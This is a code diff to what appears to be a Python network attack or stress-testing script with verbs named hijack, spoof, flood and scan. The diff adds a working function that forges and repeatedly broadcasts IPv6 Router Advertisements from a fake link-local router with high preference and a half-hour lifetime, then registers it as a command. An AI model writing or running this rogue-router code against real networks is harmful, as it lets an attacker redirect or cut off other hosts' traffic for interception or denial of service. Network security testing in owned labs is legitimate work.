@@ -67,6 +67,17 @@ def adverts(seconds: str, source: str, target: str, target_mac: str, vip: str, r
     return repeat(port, [frame(target_mac, own_mac(port), packet)], float(seconds), 0.01)
 
 
+def routers(seconds: str) -> object:
+    """Calls itself the IPv6 router, before all others, for half an hour."""
+    port = raw()
+    source, target = socket.inet_pton(socket.AF_INET6, "fe80::bad"), socket.inet_pton(socket.AF_INET6, "ff02::1")
+    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + struct.pack("!BB", 1, 1) + own_mac(port)
+    pseudo = source + target + struct.pack("!II", len(body), 58)
+    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
+    packet = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target + body
+    return repeat(port, [frame("33:33:00:00:00:01", own_mac(port), packet, 0x86DD)], float(seconds), 0.1)
+
+
 def datagrams(
     count: str, source: str, target: str, target_mac: str, target_port: str, source_mac: str, data: str
 ) -> object:
@@ -180,7 +191,7 @@ def connects(seconds: str, target: str, target_port: str) -> object:
     return {"tried": tried, "failed": failed, "slowest_ms": round(slowest * 1000)}
 
 
-VERBS = {verb.__name__: verb for verb in (adverts, datagrams, hijack, spoof, scan, flood, connects)}
+VERBS = {verb.__name__: verb for verb in (adverts, routers, datagrams, hijack, spoof, scan, flood, connects)}
 
 if __name__ == "__main__":
     print(json.dumps(VERBS[sys.argv[1]](*sys.argv[2:])))  # noqa: T201
